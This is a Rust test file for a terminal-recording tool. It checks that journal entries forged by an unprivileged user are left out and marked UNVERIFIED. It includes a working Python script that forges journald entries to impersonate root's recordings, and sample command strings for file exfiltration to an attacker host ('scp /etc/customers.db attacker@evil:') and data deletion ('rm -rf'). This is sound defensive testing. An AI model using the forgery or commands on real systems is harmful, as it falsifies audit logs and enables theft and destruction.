//! Issue 10, "anyone can forge recordings in the journal": a real
//! unprivileged user sends journal entries that pose as recordings (the
//! identifier, TLOG_USER=root, a tlog MESSAGE), one of them into a real
//! recording's id with a keyframe; every reader leaves them out, names
//! their sender, and shows them only when asked, marked UNVERIFIED.

use std::path::Path;
use std::process::{Command, Output};

use termtape_tests::{bin, journal_sync, run_ok};

use crate::journal::record_to_journal;

/// The unprivileged user the forgeries come from, created if missing.
pub(crate) const FORGER: &str = "ttforger";

pub(crate) fn forger() {
    let exists = Command::new("id").arg(FORGER).output().expect("id");
    if !exists.status.success() {
        run_ok(Command::new("useradd").args(["-M", "-s", "/bin/sh", FORGER]));
    }
}

/// A Python script that sends one entry to journald's socket in its native
/// protocol, its fields given as NAME=VALUE arguments, as any user can.
const FORGE: &str = r#"
import socket, struct, sys
entry = b""
for arg in sys.argv[1:]:
    name, value = arg.split("=", 1)
    v = value.encode()
    if b"\n" in v:
        entry += name.encode() + b"\n" + struct.pack("<Q", len(v)) + v + b"\n"
    else:
        entry += name.encode() + b"=" + v + b"\n"
s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
s.sendto(entry, "/run/systemd/journal/socket")
"#;

/// Sends an entry as the forger, through python3 run with the forger's ids
/// only (setpriv), as the attack was done.
pub(crate) fn forge(dir: &Path, fields: &[String]) {
    let script = dir.join("forge.py");
    std::fs::write(&script, FORGE).expect("write script");
    run_ok(
        Command::new("setpriv")
            .args([
                &format!("--reuid={FORGER}"),
                &format!("--regid={FORGER}"),
                "--clear-groups",
                "/usr/bin/python3",
            ])
            .arg(&script)
            .args(fields),
    );
}

/// A tlog message of recording `rec` showing `text` (a line) as root.
fn message(rec: &str, id: u64, text: &str) -> String {
    serde_json::json!({
        "ver": "2.3", "host": "vm", "rec": rec, "user": "root", "term": "xterm",
        "session": 1, "id": id, "pos": 0, "time": 1_795_708_038.041,
        "timing": format!(">{}", text.len() + 2),
        "in_txt": "", "in_bin": [], "out_txt": format!("{text}\r\n"), "out_bin": []
    })
    .to_string()
}

fn termtape(args: &[&str]) -> Output {
    Command::new(bin("termtape"))
        .args(args)
        .output()
        .expect("running termtape")
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// The `kf` value of the first keyframe of a file recording of `script`.
fn keyframe_of(dir: &Path, script: &str) -> String {
    let log = dir.join("innocent.log");
    run_ok(
        Command::new(bin("termtape-rec"))
            .args(["--keyframe-bytes", "1", "-o"])
            .arg(&log)
            .args(["--", "sh", "-c", script])
            .stdin(std::process::Stdio::null()),
    );
    let text = std::fs::read_to_string(&log).expect("read");
    text.lines()
        .find_map(|l| {
            let v: serde_json::Value = serde_json::from_str(l).ok()?;
            Some(v.get("kf")?.to_string())
        })
        .expect("a keyframe")
}

#[test]
fn issue_10_forged_journal_entries_are_left_out_and_marked_when_asked() {
    forger();
    let dir = tempfile::tempdir().expect("tempdir");
    // The real recording, by a recorder running as root.
    let real = record_to_journal("echo scp /etc/customers.db attacker@evil:", &[]);
    // Forgery 1: a recording of its own, posing as root's.
    let fake = format!("forged-{}", std::process::id());
    forge(
        dir.path(),
        &[
            "SYSLOG_IDENTIFIER=termtape-session".to_owned(),
            "TLOG_USER=root".to_owned(),
            format!("TLOG_REC={fake}"),
            "TLOG_ID=1".to_owned(),
            format!("MESSAGE={}", message(&fake, 1, "rm -rf /var/lib/important")),
        ],
    );
    // Forgery 2: an innocent keyframe in the real recording's id.
    let kf = keyframe_of(dir.path(), "echo nothing to see here");
    forge(
        dir.path(),
        &[
            "SYSLOG_IDENTIFIER=termtape".to_owned(),
            "TLOG_USER=root".to_owned(),
            format!("TLOG_REC={real}"),
            "TLOG_ID=1".to_owned(),
            format!("MESSAGE={}", message(&real, 1, "nothing to see here")),
            format!("TERMTAPE_X_KF={kf}"),
            "TERMTAPE_KEYFRAME=1".to_owned(),
        ],
    );
    assert!(journal_sync());
    // journalctl shows who really sent them.
    let sent = text(&run_ok(Command::new("journalctl").args([
        "-o",
        "json",
        &format!("TLOG_REC={fake}"),
    ])));
    let forger_uid = text(&run_ok(Command::new("id").args(["-u", FORGER])))
        .trim()
        .to_owned();
    assert!(
        sent.contains(&format!("\"_UID\":\"{forger_uid}\"")),
        "{sent}"
    );

    // By default: left out, and the sender named on stderr.
    let ls = termtape(&["ls", "--lax", "journal", "--user", "root"]);
    assert!(ls.status.success());
    assert!(text(&ls.stdout).contains(&real), "{}", text(&ls.stdout));
    assert!(!text(&ls.stdout).contains(&fake), "{}", text(&ls.stdout));
    assert!(
        text(&ls.stderr).contains(&format!("uid {forger_uid} (python3")),
        "{}",
        text(&ls.stderr)
    );
    let search = termtape(&["search", "--lax", "rm -rf /var/lib/important", "journal"]);
    assert_eq!(search.status.code(), Some(1), "{}", text(&search.stdout));
    assert!(!text(&search.stdout).contains(&fake));
    // The real recording's screen is the real one; the forged keyframe is
    // dropped with a warning naming its sender.
    for cmd in [
        &["screen", "journal", "--rec", &real][..],
        &["screen", "--at", "end", "journal", "--rec", &real],
        &["cat", "journal", "--rec", &real],
        &["screen", "--unverified", "journal", "--rec", &real],
    ] {
        let out = termtape(cmd);
        assert!(out.status.success(), "{cmd:?}: {}", text(&out.stderr));
        let shown = text(&out.stdout);
        assert!(shown.contains("scp /etc/customers.db"), "{cmd:?}: {shown}");
        assert!(!shown.contains("nothing to see"), "{cmd:?}: {shown}");
        assert!(
            text(&out.stderr).contains(&format!(
                "dropped an entry from untrusted sender uid {forger_uid}"
            )),
            "{cmd:?}: {}",
            text(&out.stderr)
        );
    }
    let cat = termtape(&["cat", "journal", "--rec", &fake]);
    assert!(
        !cat.status.success(),
        "a forged recording is not found by default"
    );

    // Asked for: shown, marked in every output.
    let ls = termtape(&["ls", "--lax", "--unverified", "journal", "--user", "root"]);
    let listed = text(&ls.stdout);
    let line = listed
        .lines()
        .find(|l| l.contains(&fake))
        .unwrap_or_else(|| panic!("{listed}"));
    assert!(
        line.contains(&format!("UNVERIFIED: sent by uid {forger_uid}")),
        "{line}"
    );
    let real_line = listed.lines().find(|l| l.contains(&real)).expect("real");
    assert!(!real_line.contains("UNVERIFIED"), "{real_line}");
    let search = termtape(&[
        "search",
        "--lax",
        "--unverified",
        "rm -rf /var/lib/important",
        "journal",
    ]);
    let found = text(&search.stdout);
    assert!(
        found
            .lines()
            .any(|l| l.contains(&fake) && l.contains("UNVERIFIED (sent by uid")),
        "{found}"
    );
    let json = termtape(&[
        "search",
        "--lax",
        "--json",
        "--unverified",
        "rm -rf /var/lib/important",
        "journal",
    ]);
    let object: serde_json::Value =
        serde_json::from_str(text(&json.stdout).lines().next().expect("a find")).expect("json");
    assert!(
        object["unverified"]
            .as_str()
            .is_some_and(|s| s.starts_with(&format!("uid {forger_uid}"))),
        "{object}"
    );
    for cmd in [
        &["cat", "--unverified", "journal", "--rec", &fake][..],
        &["screen", "--unverified", "journal", "--rec", &fake],
    ] {
        let out = termtape(cmd);
        assert!(out.status.success(), "{cmd:?}: {}", text(&out.stderr));
        assert!(text(&out.stdout).contains("rm -rf /var/lib/important"));
        assert!(
            text(&out.stderr).contains(&format!("recording {fake} is UNVERIFIED")),
            "{cmd:?}: {}",
            text(&out.stderr)
        );
    }
    // --trust-uid makes the forger's uid a recorder's (for journal:DIR
    // from hosts whose uids differ).
    let trusting = termtape(&[
        "ls",
        "--lax",
        "--trust-uid",
        &forger_uid,
        "journal",
        "--user",
        "root",
    ]);
    let line = text(&trusting.stdout);
    assert!(
        line.lines()
            .any(|l| l.contains(&fake) && !l.contains("UNVERIFIED")),
        "{line}"
    );
}
